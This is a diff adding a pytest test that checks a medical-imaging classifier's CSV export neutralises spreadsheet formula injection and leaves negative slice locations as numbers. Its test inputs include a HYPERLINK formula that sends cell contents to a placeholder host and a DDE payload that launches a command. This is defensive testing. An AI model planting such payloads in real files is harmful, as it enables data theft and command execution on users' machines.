@@ -207,6 +207,24 @@ def test_a_script_in_a_series_description_is_escaped(classifier, study, tmp_path
     assert {r["series_description"] for r in rows} == {series.description}
 
 
+@pytest.mark.parametrize("description", ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0",
+                                         "-2+3", "@SUM(A1:A9)", "\t=1+1"])
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised_and_numbers_are_not(classifier, study, tmp_path, description):
+    series_list, store = study
+    series = series_list[1]
+    original = series.description
+    series.description = description
+    try:
+        rows = _read_csv(write_csv(tmp_path / "r.csv", [series], store, classifier.weights_sha256,
+                                   classifier.class_ids, include_identifiers=True))
+    finally:
+        series.description = original
+    assert {r["series_description"] for r in rows} == {"'" + description}
+    locations = [float(r["slice_location_mm"]) for r in rows]
+    assert min(locations) < 0, "negative slice locations stay numbers"
+    assert all(not r["slice_location_mm"].startswith("'") for r in rows)
+
+
 def test_unclassified_series_and_a_missing_folder(classifier, study, tmp_path):
     series_list, _ = study
     calls = []
